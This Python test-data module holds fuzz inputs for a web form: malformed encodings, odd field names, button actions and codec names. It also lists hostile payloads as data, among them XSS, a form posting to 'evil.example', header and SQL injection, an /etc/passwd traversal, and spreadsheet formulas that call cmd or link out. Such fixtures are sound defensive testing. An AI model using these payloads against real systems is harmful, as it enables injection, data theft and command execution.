"""What people send who mean harm, and what honest people send whose words are odd to a machine. As bytes, for a body."""

import json

LONE = "\ud800".encode("utf-8", "surrogatepass")
BIDI = "\u202eyentrap\u202c \u2066inner\u2069 \u202bRTL\u202c \u200f\u200e\u061c"
FAMILY = "👩\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈"

ODD: tuple[bytes, ...] = (
    b"",
    b" ",
    b"\0",
    b"a\0b",
    LONE,
    b"\xed\xa0\xbd\xed\xb8\x80",  # a pair of surrogates, each in three bytes
    b"\xff\xfe\x00",
    b"\xc0\xaf..\xc0\xaf",  # a slash that is longer than it may be
    "é ü".encode("latin-1"),
    "zwölf".encode("utf-16"),
    b"+AGEAYg-+2AA-",  # utf-7, with half a pair
    BIDI.encode(),
    "a\u200bb\u2060c\ufeffd\u00ade".encode(),
    FAMILY.encode(),
    ("Z" + "\u0351" * 400).encode(),
    "𝕬𝖘𝖙𝖗𝖆𝖑 \U0010ffff \ufdd0".encode(),
    "١٢٣٤ ５６７８ ².⅔".encode(),
    b"\x1b[2J\x07\x08\x7f\x85",
    "line\u2028line\u2029line\x85line\x0b\x0c\x1c".encode(),
    b"a\r\nSet-Cookie: x=1\r\n\r\n<html>",
    b"<script>alert(1)</script>",
    b'"><img src=x onerror=alert(1)>',
    b"</textarea></form><form action=//evil.example>",
    b"{{ 7*7 }}{% include 'x' %}${7*7}#{7*7}",
    b"../../../../etc/passwd\0.html",
    b"%00%0d%0a%u0041%",
    b"%(over)d %s %n {0} {0.__class__}",
    b"' OR 1=1; DROP TABLE desk_case;--",
    b'=HYPERLINK("http://evil.example","x")',
    b"+1+1",
    b"-1+cmd|' /C calc'!A0",
    b"@SUM(1)",
    b"-1",
    b"0",
    b"1e999",
    b"NaN",
    b"9" * 5000,
    b"None",
    b"true",
    b"null",
    b"[]",
    b"{}",
    b'{"id":"\\ud800","response":{"clientDataJSON":5}}',
    b"[" * 20_000,
    json.dumps({"a": [1] * 500}).encode(),
    b"AA==",
    b"A" * 32,
    b"f" * 64,
    b"x" * 201,
    b"x" * 20_001,
    "\u0130ẞﬁ".encode() * 300,
    b"y" * 120_000,
    b"z" * 600_000,
)

NAMES: tuple[bytes, ...] = (
    b"",
    b"do",
    b"s",
    b"k",
    b"csrfmiddlewaretoken",
    b"text",
    b"-text",
    b"new-text",
    b"__proto__",
    b"a[b][]",
    b"\0",
    b"\xff",
    b"passkey-act",
    b"passkey-agreed",
    b"passkey-credential",
    b"passkey-ticket",
    b"ticket",
    b"seen",
    b"person",
    b"x" * 5000,
)

DOS: tuple[bytes, ...] = tuple(
    act.encode()
    for act in (
        "", ":", "next", "next:", "next:danger", "next:people", "next:pointers", "next:check", "next:nothing",
        "back", "back:danger", "back:help", "back:check", "back:nothing", "goto:check", "goto:story", "goto:help",
        "person:0", "person:99", "person:-1", "person:٣", "person:new", "save:0", "save:new", "save:x", "leave-person:0",
        "remove:0", "remove:999", "send", "code", "type", "typed", "visit", "say:", "say:answer:a2", "say:agree:a4",
        "say:message:new", "say:withdraw:new", "say:object:\0", "say:answer:" + "a" * 70, "withdraw", "withdrawn",
        "return", "look", "wait", "begin", "submit", "save", "refuse", "nothing:at:all", "do\r\nX: y",
    )
)  # fmt: skip
"""What buttons say, those of pages that somebody is not on, and none of ours."""

CODECS = (
    "utf-8", "latin-1", "utf-16", "utf-32", "utf-7", "hex", "base64", "rot13", "zip", "idna", "punycode",
    "unicode_escape", "raw_unicode_escape", "undefined", "mbcs", "nonsense", "cp037", "shift_jis", "utf-8-sig", "UTF8",
)  # fmt: skip
"""Names that Python knows as an alphabet, or as something that only looks like one, and two that it does not know."""
